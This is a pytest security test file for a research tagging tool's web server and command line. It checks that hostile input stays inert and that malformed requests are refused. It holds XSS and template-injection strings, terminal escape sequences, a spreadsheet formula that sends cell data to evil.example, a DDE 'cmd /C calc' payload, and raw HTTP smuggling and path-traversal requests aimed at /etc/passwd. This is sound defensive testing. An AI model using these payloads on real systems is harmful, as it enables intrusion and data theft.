"""A study in which every free text is hostile, seen as every role sees it: all of it is text, on pages and in files."""

from __future__ import annotations

import io
import json
import re
import socket
import zipfile
from collections.abc import Callable, Iterator
from http.client import HTTPException, HTTPResponse
from pathlib import Path
from uuid import uuid4
from xml.etree import ElementTree

import openpyxl
import pytest
from conftest import Said
from house import House, enter
from lxml import html
from roaming import forms, links, parted
from small_study import SmallStudy, copied
from starlette.responses import Response
from visitor import AT_HOME, Visitor

from tagger.cli import terminal
from tagger.errors import StoreError
from tagger.review.people import ROLES
from tagger.review.web.rendering import HERE
from tagger.review.web.security import MOST_IN_FORM, POLICY
from tagger.review.web.server import _answering, _bound
from tagger.steps.overview import make_study
from tagger.store import Owner, serving

Tagger = Callable[..., Said]

MARK = "zq9"
LONG = "w" * 400
MARKUP = f"""</p></script></style>--><{MARK} onload="{MARK}()"><img src=x onerror={MARK}()>"' {MARK}={MARK}> """
PRODUCT = "{{ 9173 * 9049 }}"
BAD = f"{MARKUP}{PRODUCT}{{% include '{MARK}' %}}${PRODUCT[1:-1]}<!--{MARK}&lt;{MARK}&gt; javascript:{MARK}() "
WORSE = f"{BAD}\x1b[31m\x1b]0;{MARK}\x07\u202e\u2066{LONG}"
ESCAPES = f"\x1b[31m\x1b]0;{MARK}\x07\u202e"
FILE = f"{ESCAPES}<{MARK}>=1+1.csv"
UNSEEN = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
NAME = f'<{MARK} onload="{MARK}()">{PRODUCT}'

TALK = f"""\
speaker,text
Interviewer,"{BAD.replace('"', '""')} And how was it?"
"{NAME.replace('"', '""')}","{WORSE.replace('"', '""')} My neighbour brought me along and nobody stared at me there."
Interviewer,"And then?"
"=cmd|' /C calc'!A0","{FORMULA.replace('"', '""')} I decided for myself when to go in. I was scared of it too."
Interviewer,"Did that help?"
"+Ann","@SUM(1+1) She rang me when I was ill, and I rang her when she was. We laughed about the night shift."
"""

FRAMEWORK = """\
id: hostile
version: "1.0"
title: {bad}
layers:
  - {{id: only, name: {bad}}}
values:
  - id: choice
    name: {bad}
    layer: only
    definition: {{source: illustrative, text: {bad}}}
    counts: {{source: illustrative, texts: [{bad}]}}
    does_not_count: {{source: illustrative, texts: [{bad}]}}
    cues: {{source: illustrative, texts: [saying that one is scared, {bad}]}}
    examples: {{source: illustrative, texts: [{bad}]}}
  - id: common
    name: {formula}
    layer: only
    definition: {{source: illustrative, text: {bad}}}
    cues: {{source: illustrative, texts: [laughing about the night shift]}}
  - id: two-way
    name: {bad2}
    layer: only
    unit: exchange
    definition: {{source: illustrative, text: {bad}}}
    cues: {{source: illustrative, texts: [giving help and being given help]}}
"""


class Hostile:
    """The served study, and people of every role who are called as nobody should be."""

    def __init__(self, house: House) -> None:
        self.house = house
        self.pages: dict[str, str] = {}
        self.everybody: dict[str, Visitor] = {"nobody": house.browser(raise_server_exceptions=False)}
        for role in (*ROLES, "all"):
            browser = house.browser(raise_server_exceptions=False)
            enter(browser, house.link(f"{NAME} {role}", *(ROLES if role == "all" else [role])))
            self.everybody[role] = browser

    def visit(self, role: str, most: int = 30) -> None:
        """Open every page to which one page leads another, from the first one on."""
        waiting, seen = ["/", "/nothing", f"/browse?text={MARK}&value=choice"], set()
        while waiting and len(seen) < most:
            address = waiting.pop(0)
            kind = re.sub(r"[0-9a-f-]{20,}", "*", address.partition("#")[0])
            if kind in seen or parted(address)[0].endswith((".xlsx", "/exemplars.html")):
                continue
            seen.add(kind)
            answer = self.everybody[role].get(address)
            assert answer.status_code < 500, (role, address, answer.text)
            self.pages[f"{role} {kind}"] = answer.text
            waiting += links(answer.text)

    def act(self, role: str) -> None:
        """Read passages as a reader does, with hostile words in every field that takes some."""
        browser = self.everybody[role]
        excerpts = re.findall(r'name="excerpt" value="([^"]+)"', browser.get("/browse").text)
        for number, act in enumerate(("memo", "something not on our list", "done", "unsure", "skip")):
            excerpt = excerpts[number % len(excerpts)]
            page = browser.post("/read/choose", data={"excerpt": excerpt, "id": str(uuid4())})
            address, sent = (
                str(page.url.path),
                dict(next(one for one in forms(page.text) if one.action == "/notes").pairs),
            )
            for note in (BAD[:199], "\u202e\u2066 <b>"):
                browser.post("/notes", data={**sent, "id": str(uuid4()), "note": note})
            done = browser.post(address, data={"id": str(uuid4()), "act": act, "note": WORSE})
            self.pages[f"{role} after {act}"] = done.text
            for more in ("?whole=1&others=1", "?near=1&turns=4", "/borders"):
                self.pages[f"{role} {act} {more}"] = browser.get(address + more).text


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> SmallStudy:
    """Return the study; nobody has read in it."""
    return hostile_study(tmp_path_factory.mktemp("made"))


@pytest.fixture(scope="module")
def hostile(made: SmallStudy, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """Serve a copy of the study; people come, read, note and warn."""
    study = copied(made, tmp_path_factory.mktemp("hostile"))
    with serving(study.folder, "http://127.0.0.1:1") as owner:
        found = Hostile(House(owner, study, AT_HOME))
        for role in ("reviewer", "all"):
            found.act(role)
        for role in found.everybody:
            found.visit(role)
        yield found


def hostile_study(home: Path) -> SmallStudy:
    """Make a study of files, a framework, a dataset and words of its own that are all hostile."""
    study = SmallStudy(home)
    framework = home / "hostile.yaml"
    framework.write_text(
        FRAMEWORK.format(bad=json.dumps(BAD), bad2=json.dumps(f"{BAD} 2"), formula=json.dumps(FORMULA)), "utf-8"
    )
    make_study(study.folder, NAME, str(framework))
    study.files.mkdir()
    (study.files / FILE).write_text(TALK, "utf-8")
    study.set("share = 0.5")
    study.run(dataset=NAME)
    (study.folder / "care.txt").write_text(WORSE, "utf-8")
    return study


# Elements and attributes of the templates; one that is not there came from data.
TEMPLATES = "".join(file.read_text("utf-8") for file in (HERE / "templates").glob("*.html"))
ELEMENTS = {name.lower() for name in re.findall(r"<([a-z][a-z0-9]*)", TEMPLATES)}
ATTRIBUTES = {name.lower() for name in re.findall(r"[\s}]([a-zA-Z][a-zA-Z-]*)(?==|[\s>{])", TEMPLATES)}
ADDRESSES = ("href", "src", "action", "formaction")


def from_data(page: str) -> list[str]:
    """Return the elements and attributes of a page that no template has, and what would run or lead elsewhere."""
    found = []
    for element in html.document_fromstring(page).iter():
        if not isinstance(element.tag, str):
            found.append(repr(element))
            continue
        about = f"<{element.tag} {dict(element.attrib)}>"
        strange = element.tag not in ELEMENTS or not ATTRIBUTES.issuperset(element.attrib)
        runs = any(name.startswith("on") or name == "style" for name in element.attrib)
        inline = element.tag in ("script", "style") and (element.text or "").strip()
        leads = any(not re.match(r"/(?![/\\])|#|\?", element.get(name, "/")) for name in ADDRESSES)
        if strange or runs or inline or leads:
            found.append(about)
    return found


def test_no_element_and_no_attribute_comes_from_data(hostile: Hostile) -> None:
    """Page by page and role by role: what people wrote is text, and nothing on a page runs or leads elsewhere."""
    assert 60 < len(hostile.pages)
    assert {} == {about: found for about, page in hostile.pages.items() if (found := from_data(page))}
    assert "83006477" not in "".join(hostile.pages.values())


@pytest.mark.parametrize("role", ["reviewer", "analyst", "methodologist", "admin"])
def test_each_role_saw_hostile_words(hostile: Hostile, role: str) -> None:
    """Or the test before would say nothing."""
    assert any(f"&lt;{MARK}" in page for about, page in hostile.pages.items() if about.startswith(role))


def test_files_hold_text_and_no_formula(hostile: Hostile) -> None:
    """What is handed over as a workbook or a page to print says the same words, as words."""
    reader = hostile.house.browser()
    enter(reader, hostile.house.link(f"{NAME} later", *ROLES))
    coder = re.findall(r'name="reader" value="(\w+)" checked>', reader.get("/packs").text)[0]
    made = reader.post("/packs", data={"reader": coder, "dataset": NAME, "n": "9", "id": str(uuid4())})
    [pack] = set(re.findall(r"/packs/[0-9a-f-]{36}\.xlsx", made.text))
    printed = reader.get(pack.replace(".xlsx", "/print"))
    exemplars = reader.get("/exemplars.html?quotes=all").text

    assert [] == from_data(printed.text)
    assert [] == from_data(re.sub(r"<style>[^<]*</style>", "", exemplars))
    for address in (pack, "/exemplars.xlsx?quotes=all"):
        data = reader.get(address).content
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            names = [name for name in parts.namelist() if name.endswith(".xml")]
            assert all(ElementTree.fromstring(parts.read(name)) is not None for name in names)
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert any(FORMULA in str(cell.value) for cell in cells)
        assert {"f"}.isdisjoint(cell.data_type for cell in cells)
        assert not [cell for cell in cells if cell.hyperlink or cell.comment]


def test_a_terminal_is_told_no_escapes(made: SmallStudy, tagger: Tagger, tmp_path: Path) -> None:
    """Names of files, and words of frameworks and of studies, neither colour a terminal nor rename its window."""
    study, broken = str(made.folder), tmp_path / f"{ESCAPES}.csv"
    broken.write_bytes(b"\0\0")
    commands = [
        ("status", "--study", study),
        ("check", made.files, "--study", study),
        ("check", broken, "--study", study),
        ("run", broken, "--study", study, "--dataset", NAME, "--engine", "local"),
        ("framework", "show", made.folder / "frameworks" / "hostile.yaml"),
        ("framework", "check", made.folder / "frameworks" / "hostile.yaml"),
        ("import", broken, "--study", study),
        ("status", "--study", tmp_path / ESCAPES),
        ("audit", "plan", "--study", study),
        ("learn", "--study", study),
    ]
    told = {str(command): tagger(*command) for command in commands}

    assert {} == {about: one for about, one in told.items() if re.search(UNSEEN, one.out + one.err)}


def test_commands_print_in_no_other_way() -> None:
    """What goes to a terminal passes the one function that takes the escapes out."""
    files = [file for file in Path(terminal.__file__).parent.glob("*.py") if "click.echo(" in file.read_text("utf-8")]

    assert [Path(terminal.__file__)] == files


def test_every_answer_forbids_inline_script(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages and files, refusals and faults, what is too large and what cannot be stored, and what is no page."""
    reader, nobody = hostile.everybody["all"], hostile.everybody["nobody"]

    def full(*_: object) -> Response:
        raise StoreError("the disk is full", remedy="Make room")

    large = {"content": bytes(MOST_IN_FORM + 1), "headers": {"content-type": "application/x-www-form-urlencoded"}}
    answers = [
        (200, reader.get("/help")),
        (200, reader.get("/static/review.css")),
        (200, reader.get("/exemplars.xlsx")),
        (303, nobody.get("/", follow_redirects=False)),
        (400, reader.get("/help", headers={"host": "evil.example"})),
        (400, reader.post("/read/choose", data={"excerpt": MARK})),
        (401, nobody.post("/undo", data={})),
        (403, hostile.everybody["analyst"].get("/people")),
        (404, reader.get("/static/no.css")),
        (404, reader.get("/static/../app.py")),
        (405, reader.request("DELETE", "/static/review.css")),
        (405, reader.put("/read")),
        (413, reader.post("/read", **large)),
    ]
    monkeypatch.setattr(Owner, "write", full)
    answers.append((503, reader.get("/browse")))
    monkeypatch.setattr(Owner, "write", lambda *_: 1 / 0)
    answers.append((500, reader.get("/browse")))

    assert [status for status, _ in answers] == [answer.status_code for _, answer in answers]
    for status, answer in answers:
        assert POLICY.items() <= dict(answer.headers).items(), status
    assert not re.search("unsafe|\\*|https?:", POLICY["content-security-policy"])


TRICKS = {
    "two hosts": b"GET /help HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
    "no host": b"GET /help HTTP/1.1\r\n\r\n",
    "another server's address": b"GET http://evil.example/help HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "two lengths": b"POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nContent-Length: 0\r\n\r\nlink=",
    "a length and chunks": b"POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /people HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "a header in two lines": b"GET /help HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: a\r\n b\r\n\r\n",
    "a header that ends early": b"GET /help HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\0b\r\n\r\n",
    "a long header": b"GET /help HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: " + b"a" * 200_000 + b"\r\n\r\n",
    "a long address": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "out of the folder": b"GET /static/../../../../../../../../etc/passwd HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "out of it, in code": b"GET /static/%2e%2e/%2e%2e/server.py HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "out of it, backwards": b"GET /static/..\\..\\server.py HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "the end of a file name": b"GET /static/review.css%00.html HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "an address that is none": b"GET /help%ff%fe?%zz=%ff HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "no words": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
}


@pytest.mark.parametrize("trick", TRICKS)
def test_tricks_below_the_pages_are_refused(hostile: Hostile, trick: str) -> None:
    """What no browser sends gets no page and no file, and the server goes on."""
    with _bound("127.0.0.1", 0) as listening, _answering(hostile.house.app, listening):
        port = listening.getsockname()[1]
        status, answer = sent(port, TRICKS[trick])
        assert 200 == sent(port, b"GET /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")[0]

    assert status in (0, 303, 400, 404), (status, answer)
    for inside in (b"root:", b"import", b"Traceback", b"evil.example"):
        assert inside not in answer


def sent(port: int, request: bytes) -> tuple[int, bytes]:
    """Send bytes to the server, and return the status and the body that come back; 0: it hung up."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
        answer = HTTPResponse(connection)
        try:
            connection.sendall(request)
            answer.begin()
            return answer.status, answer.read()
        except (ConnectionError, HTTPException):
            return 0, b""
